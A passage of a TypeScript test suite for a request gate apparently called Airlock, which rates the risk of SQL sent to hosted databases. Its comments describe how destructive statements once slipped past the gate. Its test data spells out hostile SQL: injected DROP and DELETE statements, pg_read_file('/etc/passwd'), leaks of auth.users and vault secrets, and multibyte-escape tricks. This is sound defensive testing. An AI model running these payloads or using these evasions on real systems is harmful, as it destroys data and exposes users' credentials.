    const { decision } = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
    t.not(decision.approval?.risk, 'critical', sql);
  }
});

t.test('on D1, a WHERE only PostgreSQL\'s reading judges is judged statement by statement beside SQLite\'s own syntax', async (t) => {
  // Ninth pass: `DELETE FROM users WHERE id = id + 0; SELECT 1 FROM [t]` to D1 was a medium write:
  // PostgreSQL refused the whole text (`[t]`), so its reading of the WHERE was dropped.
  const wheres = fc.constantFrom((c: string) => `${c} = ${c} + 0`, (c: string) => `${c} IS NOT NULL`, (c: string) => `${c} BETWEEN ${c} - 1 AND ${c} + 1`, (c: string) => `lower(${c}) = lower(${c})`);
  const wraps = fc.constantFrom((d: string) => `${d}; SELECT 1 FROM [t]`, (d: string) => `SELECT \`a\` FROM t; ${d}`, (d: string) => `${d} RETURNING [id]`);
  await fc.assert(
    fc.asyncProperty(wheres, wraps, fc.constantFrom('DELETE', 'UPDATE'), ident, ident, async (w, wrap, verb, x, c) => {
      const sql = wrap(verb === 'UPDATE' ? `UPDATE ${x} SET ${c} = 1 WHERE ${w(c)}` : `DELETE FROM ${x} WHERE ${w(c)}`);
      const { description, decision } = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${JSON.stringify(description.sql)?.slice(0, 300)}`);
    }),
    { numRuns: Math.min(runs, 10), ...seed },
  );
  for (const sql of ['DELETE FROM [users] WHERE id = 5; SELECT 1 FROM [t]', 'delete from `users` where `users`.`id` = ?', "UPDATE users SET a = 1 WHERE name = 'x' RETURNING [id]"]) {
    const { decision } = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql, params: [1] }) });
    t.not(decision.approval?.risk, 'critical', sql);
  }
});

t.test('the SQL a pg-meta column change writes into its DDL as it stands is read', async (t) => {
  // Ninth pass: `POST /pg/columns {default_value: "1; DROP TABLE users", default_value_format:
  // "expression"}` was a medium write: pg-meta writes `DEFAULT ${default_value}` and
  // `CHECK (${check})` into its ALTER TABLE as they stand, so the DROP runs (and an expression such
  // as `pg_read_file(…)` runs on every later INSERT).
  const cols = 'https://abcdefghijklmnopqrst.supabase.co/pg/columns';
  const bodies = fc.constantFrom(
    (x: string) => ({ table_id: 1, name: 'c', type: 'text', default_value: `1; DROP TABLE ${x}`, default_value_format: 'expression' }),
    () => ({ table_id: 1, name: 'c', type: 'text', default_value: "pg_read_file('/etc/passwd')", default_value_format: 'expression' }),
    (x: string) => ({ table_id: 1, name: 'c', type: 'int', check: `c > 0) ; DELETE FROM ${x}; SELECT (1` }),
    (x: string) => ({ default_value: `dblink_exec('', 'DROP TABLE ${x}')`, default_value_format: 'expression' }),
  );
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(['POST', cols], ['PATCH', `${cols}/16384.2`]), bodies, ident, async ([method, url], b, x) => {
      const body = JSON.stringify(b(x));
      const { description, decision } = await decide({ method, url, headers: [['Content-Type', 'application/json']], body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${method} ${body}: ${decision.action} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 10), ...seed },
  );
  for (const b of [{ default_value: 'now()', default_value_format: 'expression' }, { default_value: '1; DROP TABLE users' }, { check: 'c > 0' }]) {
    const { decision } = await decide({ url: cols, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ table_id: 1, name: 'c', type: 'text', ...b }) });
    t.not(decision.approval?.risk, 'critical', JSON.stringify(b));
  }
});

t.test('SQL a GraphQL mutation takes at any depth of its arguments is read', async (t) => {
  // Ninth pass: `run(input: {db: {sql: "DROP TABLE users"}})`, `run(steps: [{sql: …}])` and
  // `run(sqls: […])` on a GraphQL endpoint no module owns were medium writes: only a string at the
  // top or one object down was read.
  const shapes = fc.constantFrom(
    (d: string) => ({ query: 'mutation($s: String!) { run(input: {db: {sql: $s}}) { ok } }', variables: { s: d } }),
    (d: string) => ({ query: 'mutation($v: [StepInput!]!) { run(steps: $v) { ok } }', variables: { v: [{ kind: 'sql', sql: 'SELECT 1' }, { kind: 'sql', sql: d }] } }),
    (d: string) => ({ query: 'mutation($v: [String!]!) { run(sqls: $v) { ok } }', variables: { v: ['SELECT 1', d] } }),
    (d: string) => ({ query: 'mutation($v: JSON!) { run(a: $v) { ok } }', variables: { v: { b: { c: { d: { statement: d } } } } } }),
  );
  await fc.assert(
    fc.asyncProperty(shapes, fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`), ident, async (shape, d, x) => {
      const body = JSON.stringify(shape(d(x)));
      const { description, decision } = await decide({ url: `https://${SQL_HOST}/graphql`, headers: [['Content-Type', 'application/json']], body });
      if (decision.approval?.risk !== 'critical') throw new Error(`${body}: ${decision.action} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 10), ...seed },
  );
  const search = await decide({ url: `https://${SQL_HOST}/graphql`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'mutation { search(filter: {where: {query: "red shoes"}}) { ok } }' }) });
  t.not(search.decision.approval?.risk, 'critical', 'a search phrase deep in the arguments is not SQL');
});

t.test('two-phase commit and MySQL\'s statements PostgreSQL reads as settings are not reads', async (t) => {
  // Eighth pass: `PREPARE TRANSACTION`, `COMMIT PREPARED`, `ROLLBACK PREPARED` were allowed reads on
  // Supabase and Neon (transaction control); on an endpoint of unknown dialect `SET PASSWORD = '…'`,
  // `SET foreign_key_checks = 0`, `SET sql_log_bin = 0`, `RESET MASTER` were medium settings, which
  // MySQL runs as a password change, integrity checks or the binary log off, and deleted binary logs.
  const finishing = fc.constantFrom('COMMIT PREPARED', 'ROLLBACK PREPARED');
  const pgEndpoints = endpoints.postgresql.concat([{ url: GENERIC, key: 'sql' }]);
  await fc.assert(
    fc.asyncProperty(finishing, fc.constantFrom(...pgEndpoints), ident, noise, harmless, async (verb, e, id, n, prefix) => {
      const sql = `${prefix}${render(`${verb} '${id}'`, n)}`;
      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql} to ${e.url}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  const mysql = fc.constantFrom(
    (v: string) => `SET PASSWORD = '${v}'`, (v: string) => `SET password TO '${v}'`,
    (v: string) => `SET foreign_key_checks = ${v}`, (v: string) => `SET SESSION unique_checks = ${v}`, (v: string) => `SET sql_log_bin = ${v}`,
    (v: string) => `SET LOCAL check_constraint_checks = ${v}`, () => 'RESET MASTER', () => 'RESET SLAVE', () => 'RESET REPLICA', () => 'RESET PERSIST',
  );
  await fc.assert(
    fc.asyncProperty(mysql, fc.constantFrom('0', 'OFF', 'x'), noise, harmless, async (m, v, n, prefix) => {
      const sql = `${prefix}${render(m(v), n)}`;
      const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: runs, ...seed },
  );
  // Controls: transaction control stays a read; PREPARE TRANSACTION (the transaction and its locks
  // kept past the session) is a write; an ordinary setting stays a medium write; PostgreSQL's own
  // reading of a setting named `password` is its own.
  for (const e of endpoints.postgresql) {
    for (const sql of ['BEGIN ; SELECT 1 ; COMMIT', 'BEGIN ; SAVEPOINT a ; ROLLBACK TO a ; RELEASE a ; ROLLBACK', 'START TRANSACTION READ ONLY ; END']) {
      const { decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      t.equal(decision.action, 'allow', `${sql} to ${e.url}`);
    }
    const prepared = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: "BEGIN ; PREPARE TRANSACTION 'tx1'" }) });
    t.equal(prepared.decision.approval?.risk, 'medium', `PREPARE TRANSACTION to ${e.url}: a write`);
    t.ok(prepared.description.sql?.statements.some((st) => st.kind === 'prepare_transaction'), 'named as what it is');
  }
  for (const [url, key, sql] of [[GENERIC, 'sql', 'SET search_path = public'], [GENERIC, 'sql', "SET time_zone = 'UTC'"], [SUPABASE, 'query', "SET password = 'x'"]] as Array<[string, string, string]>) {
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [key]: sql }) });
    t.equal(decision.approval?.risk, 'medium', `${sql} to ${url}`);
  }
});

t.test('Supabase Realtime\'s Broadcast from the database sends rows out: destructive, in every spelling', async (t) => {
  // Tenth pass: `realtime.send(…, private => false)` reached every anon subscriber of the topic (a medium write).
  const spellings = [
    `SELECT realtime.send(jsonb_build_object('u', (SELECT jsonb_agg(u) FROM auth.users u)), 'e', 'public-room', false)`,
    `SELECT "realtime"."send"('{}'::jsonb, 'e', 'room', false)`,
    `SELECT REALTIME.BROADCAST_CHANGES('room', 'e', 'INSERT', 'users', 'auth', NULL, NULL)`,
    `INSERT INTO "realtime".messages (topic, extension, payload, private) VALUES ('room', 'broadcast', '{}', false)`,
  ];
  for (const url of [SUPABASE, NEON]) {
    for (const sql of spellings) {
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
      t.equal(decision.approval?.risk, 'critical', `${url}: ${sql}`);
    }
  }
  const topic = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: 'SELECT realtime.topic()' }) });
  t.not(topic.decision.approval?.risk, 'critical', 'realtime.topic() stays ordinary');
});

t.test('a view or table made in the served schema from Supabase\'s internal schemas is a privilege change', async (t) => {
  // Tenth pass: `CREATE VIEW public.leak AS SELECT * FROM auth.users` was a medium write: the Data
  // API serves it to every anon-key client, as its owner (past row-level security and grants).
  const internal = fc.constantFrom('auth.users', 'auth.sessions', 'vault.decrypted_secrets', 'storage.objects', 'extensions.pg_stat_statements');
  const make = fc.constantFrom(
    (src: string, v: string) => `CREATE VIEW ${v} AS SELECT * FROM ${src}`,
    (src: string, v: string) => `CREATE OR REPLACE VIEW public.${v} WITH (security_invoker = off) AS SELECT 1 AS a FROM ${src} x`,
    (src: string, v: string) => `CREATE MATERIALIZED VIEW ${v} AS SELECT * FROM ${src}`,
    (src: string, v: string) => `CREATE TABLE public.${v} AS SELECT * FROM ${src}`,
    (src: string, v: string) => `SELECT * INTO ${v} FROM ${src}`,
    (src: string, v: string) => `CREATE VIEW ${v} AS WITH c AS (SELECT * FROM ${src}) SELECT * FROM todos JOIN c ON true`,
  );
  await fc.assert(
    fc.asyncProperty(internal, make, ident, fc.constantFrom(SUPABASE, NEON), async (src, m, v, url) => {
      const sql = m(src, v);
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql} to ${url}: ${decision.action} ${decision.rule}`);
    }),
    { numRuns: Math.min(runs, 14), ...seed },
  );
  // A caller's-rights view turned into an owner's-rights one, in each spelling, is the same change.
  for (const sql of ['ALTER VIEW v SET (security_invoker = false)', 'ALTER VIEW v RESET (security_invoker)', 'ALTER VIEW public.v SET (check_option = local, security_invoker = off)', "ALTER TABLE v SET (security_invoker = '0')"]) {
    const { decision } = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
    t.equal(decision.approval?.risk, 'critical', sql);
  }
  // Controls: a view of the app's own tables, a caller's-rights view, a view in an unserved schema stay writes
  // (of auth.users' ids and emails: `SELECT *` of it reads its password hashes and tokens, critical since the twenty-eighth pass).
  for (const sql of ['ALTER VIEW v SET (security_invoker = true)', 'ALTER VIEW v SET (security_barrier = true)', 'CREATE VIEW v AS SELECT * FROM todos', 'CREATE VIEW v WITH (security_invoker = true) AS SELECT id, email FROM auth.users', 'CREATE VIEW private.v AS SELECT id, email FROM auth.users', 'CREATE TABLE t2 AS SELECT * FROM todos']) {
    const { decision } = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
    t.equal(decision.approval?.risk, 'medium', sql);
  }
});

t.test('SQL in a multipart/form-data field is read as in a form', async (t) => {
  // Tenth pass: `curl -F sql='DROP TABLE users'` (Flask, PHP, Rails, multer and Spring read
  // multipart fields as form fields) was a plain medium POST; the same field urlencoded was SQL.
  const part = (name: string, value: string, eol: string) => `--b0undary${eol}Content-Disposition: form-data; name="${name}"${eol}${eol}${value}${eol}`;
  await fc.assert(
    fc.asyncProperty(
      fc.constantFrom(['sql', '/api/run'], ['[sql]', '/api/run'], [' sql', '/api/run'], ['query', '/v1/query'], ['statement', '/v1/sql'], ['q', '/query']),
      fc.constantFrom('\r\n', '\n'),
      fc.constantFrom((x: string) => `DROP TABLE ${x}`, (x: string) => `DELETE FROM ${x}`),
      ident,
      async ([name, path], eol, d, x) => {
        const body = `${part('note', 'hello', eol)}${part(name, d(x), eol)}--b0undary--${eol}`;
        const { description, decision } = await decide({ url: `https://${SQL_HOST}${path}`, headers: [['Content-Type', 'multipart/form-data; boundary=b0undary']], body });
        if (decision.approval?.risk !== 'critical') throw new Error(`${JSON.stringify(body)} to ${path}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
      },
    ),
    { numRuns: Math.min(runs, 14), ...seed },
  );
  const upload = await decide({ url: `https://${SQL_HOST}/api/run`, headers: [['Content-Type', 'multipart/form-data; boundary=b0undary']], body: `${part('file', 'drop table tennis schedule', '\r\n')}--b0undary--\r\n` });
  t.not(upload.decision.approval?.risk, 'critical', 'a field not named for SQL is not SQL');
});

t.test('thirteenth pass: an operator named in a subquery comparison or an ORDER BY … USING is a call of a function someone created', async (t) => {
  // `x OPERATOR(s.=) ANY (SELECT …)` (a SubLink's operator) and `ORDER BY x USING ===` (a sort's)
  // were allowed as reads, while PostgreSQL 15 runs the operator's function for each row there too
  // (tunnels.test.ts shows it on a real server).
  const op = fc.constantFrom('===', 'OPERATOR ( public.= )', 'OPERATOR ( evil.< )', '<<->>>>');
  const shapes = fc.constantFrom(
    (o: string, x: string, c: string) => `SELECT 1 FROM ${x} WHERE ${c} ${o} ANY ( SELECT ${c} FROM ${x} )`,
    (o: string, x: string, c: string) => `SELECT 1 FROM ${x} WHERE ${c} ${o} ALL ( SELECT 1 )`,
    (o: string, x: string, c: string) => `SELECT 1 FROM ${x} WHERE ${c} ${o} SOME ( SELECT 2 )`,
    (o: string, x: string, c: string) => `SELECT ${c} FROM ${x} ORDER BY ${c} USING ${o}`,
    (o: string, x: string, c: string) => `SELECT array_agg ( ${c} ORDER BY ${c} USING ${o} ) FROM ${x}`,
    (o: string, x: string, c: string) => `SELECT row_number ( ) OVER ( ORDER BY ${c} USING ${o} ) FROM ${x}`,
  );
  await fc.assert(
    fc.asyncProperty(shapes, op, fc.constantFrom(...endpoints.postgresql), ident, ident, noise, async (shape, o, e, x, c, n) => {
      fc.pre(x !== c);
      const sql = render(shape(o, x, c), n);
      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      if (decision.action === 'allow') throw new Error(`${sql} on ${e.url}: allowed`);
      if (!description.sql?.statements[0]?.functions?.some((f) => f.startsWith('operator('))) throw new Error(`${sql}: the operator is not in the scope`);
    }),
    { numRuns: runs, ...seed },
  );
  // Controls: the built-in operators in the same places stay reads.
  for (const sql of ['SELECT id FROM users ORDER BY id USING <', 'SELECT 1 FROM t WHERE a = ANY (SELECT a FROM u)', 'SELECT 1 FROM t WHERE a IN (SELECT a FROM u)', 'SELECT 1 FROM t WHERE a OPERATOR(pg_catalog.<) ALL (SELECT 2)', 'SELECT array_agg(a ORDER BY a USING >) FROM t']) {
    const { decision } = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
    t.equal(decision.action, 'allow', sql);
  }
});

t.test('thirteenth pass: settings that change how later statements are read stay writes when they change nothing Airlock relies on', async (t) => {
  // The destructive spellings are in the construct property above; these must not be held critical.
  for (const sql of ["SET client_encoding = 'UTF8'", "SET NAMES 'utf-8'", 'SET client_encoding TO DEFAULT', "SELECT set_config('client_encoding', 'Unicode', false)", 'SET search_path = "$user", public, extensions', 'SET search_path = pg_catalog, public', "SELECT set_config('search_path', 'public', true)", 'RESET search_path']) {
    for (const e of endpoints.postgresql) {
      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      t.equal(decision.approval?.risk, 'medium', `${sql} on ${e.url}: a write`);
      t.notOk(description.sql?.destructive, 'not destructive');
    }
  }
  // Each of the settings the construct property draws from, once on each PostgreSQL service.
  for (const sql of ["SET client_encoding = 'SJIS'", "SELECT set_config('client_encoding', 'GBK', false)", 'SET search_path = evil, pg_catalog', 'SET search_path = auth, public', "SELECT set_config('search_path', 'storage', false)"]) {
    for (const e of endpoints.postgresql) {
      const { decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      t.equal(decision.approval?.risk, 'critical', `${sql} on ${e.url}`);
    }
  }
  // A function of the agent's own name is an ordinary write; MySQL's character_set_client (on an
  // endpoint that may be MySQL) is read as client_encoding is, UTF-8 and single-byte sets as the control.
  for (const [url, body, risk] of [
    [SUPABASE, { query: "CREATE FUNCTION public.my_helper(x varchar) RETURNS text LANGUAGE sql RETURN 'x'" }, 'medium'],
    [GENERIC, { sql: "SET character_set_client = 'gbk'" }, 'critical'],
    [GENERIC, { sql: 'SET SESSION character_set_client = sjis' }, 'critical'],
    [GENERIC, { sql: 'SET character_set_client = utf8mb4' }, 'medium'],
  ] as const) {
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
    t.equal(decision.approval?.risk, risk, `${JSON.stringify(body)}: ${risk}`);
  }
  // Neon runs each query of a batch as its own message: the SET then changes how the next is read
  // (on a real server the SELECT below drops the table: tunnels.test.ts). The batch is critical.
  const batch = { queries: [{ query: "SET client_encoding = 'SJIS'", params: [] }, { query: "SELECT E'\u00c1\\'; DROP TABLE users; --'", params: [] }] };
  const { decision } = await decide({ url: NEON, headers: [['Content-Type', 'application/json']], body: JSON.stringify(batch) });
  t.equal(decision.approval?.risk, 'critical', 'a Neon batch that sets SJIS before a statement is critical');
});

t.test('thirteenth pass: a double-quoted name SQLite reads as a string where no column has it (D1, libSQL) is read both ways', async (t) => {
  // A real SQLite built with its defaults (Python's sqlite3 here; D1's workerd build sets only
  // SQLITE_DBCONFIG_DEFENSIVE) deletes every row; Airlock's scratch database read a column.
  const cases = [
    `DELETE FROM users WHERE "active" = 'active'`,
    `DELETE FROM "users" WHERE "id" = 7 OR "deleted" = 'deleted'`,
    `UPDATE "users" SET "email" = 'x' WHERE "banned" IN ('banned')`,
    `DELETE FROM users WHERE lower("flag") LIKE 'flag'`,
  ];
  const oracle = await new Promise<string>((resolve, reject) => execFile('python3', ['-c', [
    'import sqlite3, sys, json',
    'out = []',
    'for sql in json.loads(sys.argv[1]):',
    '  c = sqlite3.connect(":memory:")',
    '  c.execute("CREATE TABLE users (id INTEGER PRIMARY KEY, email TEXT)")',
    '  c.executemany("INSERT INTO users (email) VALUES (?)", [("a",), ("b",), ("c",)])',
    '  out.append(c.execute(sql).rowcount)',
    'print(json.dumps(out))',
  ].join('\n'), JSON.stringify(cases)], (err, out) => (err ? reject(err) : resolve(out.trim()))));
  t.same(JSON.parse(oracle), [3, 3, 3, 3], 'SQLite with its defaults touches every row');
  const turso = `https://${SQL_HOST}/v2/pipeline`;
  for (const sql of cases) {
    for (const [url, body] of [[D1, { sql }], [GENERIC, { sql }], [turso, { requests: [{ type: 'execute', stmt: { sql } }] }]] as const) {
      const { description, decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
      t.equal(decision.approval?.risk, 'critical', `${sql} to ${url}`);
      t.ok(description.sql?.destructive, 'destructive');
    }
  }
  // Bound values too: `"active" = ?` with "active".
  for (const [url, body] of [[D1, { sql: 'DELETE FROM users WHERE "active" = ?', params: ['active'] }], [turso, { requests: [{ type: 'execute', stmt: { sql: 'DELETE FROM users WHERE "active" = ?', args: [{ type: 'text', value: 'active' }] } }] }]] as const) {
    const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify(body) });
    t.equal(decision.approval?.risk, 'critical', `${JSON.stringify(body)} to ${url}`);
  }
  // Controls: what ORMs write (Knex unqualified, Drizzle and Prisma qualified) stays a narrow write.
  for (const [sql, params] of [['delete from "users" where "id" = ?', [5]], ['update "users" set "email" = ? where "id" = ?', ['x', 5]], ['delete from "users" where "users"."id" = ?', [5]], ['DELETE FROM "main"."User" WHERE ("main"."User"."id" = ?)', [5]]] as const) {
    for (const url of [D1, GENERIC]) {
      const { decision } = await decide({ url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql, params }) });
      t.equal(decision.approval?.risk, 'medium', `${sql} to ${url}: a write`);
    }
  }
});

t.test('thirteenth pass: a statement hidden by a backslash that ends a multibyte character (SJIS, BIG5, GBK) is read both ways', async (t) => {
  // A session reads SJIS after a function that calls set_config, an earlier request on a pooled
  // connection or a role's default (tunnels.test.ts: on a real PostgreSQL the DROP runs); there
  // `Á\` is one character and the quote after it ends the string.
  const lead = fc.constantFrom('Á', 'é', 'ü', '€', 'ő', 'Ж', '中');
  const hidden = fc.constantFrom(
    (x: string) => `; DROP TABLE ${x}; --`,
    (x: string) => `, query_to_xml($q$DELETE FROM ${x} RETURNING 1$q$, true, true, $q$$q$) --`,
    (x: string) => `; DELETE FROM ${x}; SELECT '`,
  );
  const places = [...endpoints.postgresql, { url: GENERIC, key: 'sql' }];
  await fc.assert(
    fc.asyncProperty(lead, hidden, fc.constantFrom(...places), ident, fc.constantFrom('E', 'e'), async (l, h, e, x, E) => {
      const sql = `SELECT ${E}'${l}\\'${h(x)}'`;
      const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
      if (decision.approval?.risk !== 'critical') throw new Error(`${sql} to ${e.url}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
    }),
    { numRuns: Math.min(runs, 14), ...seed },
  );
  // Controls: a non-ASCII character before an escape that reads the same either way stays a read.
  for (const sql of ["SELECT E'café\\n'", "SELECT E'Grüße\\t', 'x'", "SELECT 'naïve\\path'"]) {
    const { decision } = await decide({ url: SUPABASE, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ query: sql }) });
    t.equal(decision.action, 'allow', sql);
  }
});

t.test('fourteenth pass: statements that switch protection off, install code later statements run, or swap what names reach, in other words', async (t) => {
  // Each was a medium write (grantable from a narrow one of its kind) while its plain spelling is
  // critical. Checked on a real PostgreSQL 15: ENABLE REPLICA TRIGGER stops an audit trigger and
  // ENABLE REPLICA RULE a DO INSTEAD NOTHING rule; an UPDATE of a view over pg_settings runs
  // set_config; with transform_null_equals on, `WHERE deleted_at = NULL` deleted 2 of 3 rows; a
  // restrictive policy or a view calling a function that inserts wrote a row per row an ordinary
  // SELECT read.
  const pg: Array<(t: string, c: string, u: string) => string> = [
    (t2, c, u) => `ALTER TABLE ${t2} ENABLE REPLICA TRIGGER ${u}`,
    (t2) => `ALTER TABLE ONLY ${t2} ENABLE REPLICA TRIGGER ALL`,
    (t2, c, u) => `ALTER TABLE ${t2} ENABLE REPLICA RULE ${u}`,
    (t2) => `CREATE TEMP VIEW ${t2} AS SELECT * FROM pg_settings ; UPDATE ${t2} SET setting = 'replica' WHERE name = 'session_replication_role'`,
    (t2, c) => `CREATE VIEW ${t2} AS SELECT name , setting AS ${c} FROM pg_catalog.pg_settings`,
    (t2, c) => `SET transform_null_equals = on ; DELETE FROM ${t2} WHERE ${c} = NULL`,
    () => `SET SESSION transform_null_equals TO true`,
    (t2) => `SELECT set_config ( 'transform_null_equals' , 'yes' , false ) FROM ${t2}`,
    // A search path into another schema of the user's own: `users` then names app.users, under grants given for public.users.
    (t2) => `SET search_path = s_${t2}`,
    (t2, c) => `SET LOCAL search_path TO s_${t2} , public ; DELETE FROM users WHERE ${c} = 1`,
    (t2) => `SELECT set_config ( 'search_path' , 's_${t2}' , true )`,
    (t2, c, u) => `CREATE POLICY ${u} ON ${t2} AS RESTRICTIVE FOR SELECT USING ( ${u}.spy ( ${c} ) )`,
    (t2, c, u) => `CREATE VIEW ${u} AS SELECT ${c} , spy ( ${c} ) FROM ${t2}`,
    (t2, c, u) => `CREATE MATERIALIZED VIEW ${u} AS SELECT ${c} FROM ${t2} WHERE ${c} === 1`,
    (t2, c, u) => `ALTER TABLE ${t2} ALTER COLUMN ${c} SET DEFAULT ${u} ( )`,
    (t2, c, u) => `ALTER TABLE ${t2} ADD CONSTRAINT ${u} CHECK ( ${u} ( ${c} ) )`,
    (t2, c, u) => `CREATE TABLE ${t2} ( ${c} int DEFAULT ${u} ( ) )`,
    (t2, c, u) => `CREATE INDEX ON ${t2} ( ${u} ( ${c} ) )`,
    (t2, c, u) => `CREATE DOMAIN ${t2} AS text CHECK ( ${u} ( VALUE ) )`,
    (t2, c, u) => `CREATE CAST ( text AS ${t2} ) WITH FUNCTION ${u} ( text ) AS IMPLICIT`,
    // Renames that swap what every later statement reaches (real PostgreSQL: three enum value
    // renames, or three column renames, made every `user` an `admin`); a role renamed under PostgREST's names.
    (t2, c, u) => `ALTER TYPE ${t2} RENAME VALUE 'admin' TO '${u}'`,
    (t2, c, u) => `ALTER TABLE ${t2} RENAME COLUMN ${c} TO ${u}`,
    (t2, c, u) => `ALTER TABLE ${t2} RENAME TO ${u}`,
    (t2, c, u) => `ALTER TABLE IF EXISTS ${t2} SET SCHEMA ${u}`,
    (t2, c, u) => `ALTER ROLE ${t2} RENAME TO ${u}`,
    (t2, c, u) => `ALTER SCHEMA ${t2} RENAME TO ${u}`,
    (t2, c) => `ALTER DOMAIN ${t2} DROP CONSTRAINT ${c}`,
    // EXPLAIN ANALYZE runs what it explains: on a real PostgreSQL these made the table or view (an allowed read before).
    (t2) => `EXPLAIN ANALYZE CREATE TABLE public.${t2} AS SELECT * FROM auth.users`,
    (t2) => `EXPLAIN ( ANALYZE , COSTS OFF ) CREATE MATERIALIZED VIEW ${t2} AS SELECT * FROM auth.users`,
    (t2, c) => `EXPLAIN ANALYZE SELECT ${c} INTO public.${t2} FROM vault.decrypted_secrets`,
    // CREATE SCHEMA's elements run as statements of their own.
    (t2, c, u) => `CREATE SCHEMA ${t2} CREATE VIEW ${u} AS SELECT ${u} ( ${c} ) FROM public.${c}`,
  ];
  const cases = [...pg.flatMap((sql) => endpoints.postgresql.map((e) => ({ sql, e }))),
    // D1 (SQLite's FTS5): the command column empties an external-content index.
    ...[(t2: string) => `INSERT INTO ${t2} ( ${t2} ) VALUES ( 'delete-all' )`, (t2: string) => `INSERT INTO "${t2}" ( ${t2.toUpperCase()} , rowid , ${t2}_body ) VALUES ( 'delete' , 1 , 'x' )`,
      (t2: string) => `INSERT INTO ${t2} ( ${t2} , rank ) VALUES ( 'rank' , 'bm25(10.0)' )`, (t2: string) => `INSERT INTO ${t2} ( ${t2} ) VALUES ( 'delete-' || 'all' )`,
      (t2: string) => `ALTER TABLE ${t2} RENAME TO ${t2}_old`, (t2: string) => `ALTER TABLE ${t2} RENAME COLUMN ${t2}_a TO ${t2}_b`]
      .map((f) => ({ sql: (t2: string) => f(t2), e: endpoints.sqlite[0]! }))];
  const check = async (sql: string, e: { url: string; key: string }): Promise<void> => {
    const { description, decision } = await decide({ url: e.url, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ [e.key]: sql }) });
    if (!description.sql?.destructive || decision.approval?.risk !== 'critical') throw new Error(`${sql} to ${e.url}: ${decision.action} ${decision.approval?.risk} ${JSON.stringify(description.sql)}`);
  };
  // Each case once as written, then random names, keyword case and comments.
  for (const { sql: f, e } of cases) await check(f('acct', 'flag', 'other'), e);
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...cases), ident, ident, ident, noise, async ({ sql: f, e }, tbl, col, other, n) => {
      fc.pre(tbl !== col && tbl !== other && col !== other);
      await check(render(f(tbl, col, other), n), e);
    }),
    { numRuns: Math.min(runs, 10), ...seed },
  );
  // Bound: D1's params name the command.
  const bound = await decide({ url: D1, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql: 'INSERT INTO docs_fts(docs_fts) VALUES (?)', params: ['DELETE-ALL'] }) });
  t.equal(bound.decision.approval?.risk, 'critical', 'a bound delete-all');
  // SQLite's reading (Python's sqlite3): delete-all leaves an external-content index finding nothing.
  const oracle = await new Promise<string>((resolve, reject) => execFile('python3', ['-c', [
    'import sqlite3',
    'c = sqlite3.connect(":memory:")',
    'c.executescript("CREATE TABLE docs(id INTEGER PRIMARY KEY, body TEXT); CREATE VIRTUAL TABLE docs_fts USING fts5(body, content=\'docs\', content_rowid=\'id\'); INSERT INTO docs VALUES (1, \'plan a\'), (2, \'plan b\'); INSERT INTO docs_fts(docs_fts) VALUES (\'rebuild\');")',
    'before = c.execute("SELECT count(*) FROM docs_fts WHERE docs_fts MATCH \'plan\'").fetchone()[0]',
    'c.execute("INSERT INTO docs_fts(docs_fts) VALUES (?)", ("DELETE-ALL",))',
    'print(before, c.execute("SELECT count(*) FROM docs_fts WHERE docs_fts MATCH \'plan\'").fetchone()[0])',
  ].join('\n')], (err, out) => (err ? reject(err) : resolve(out.trim()))));
  t.equal(oracle, '2 0', 'SQLite empties the index');
  // Controls: the ordinary spellings stay what they were.
  for (const [url, key, sql, risk] of [
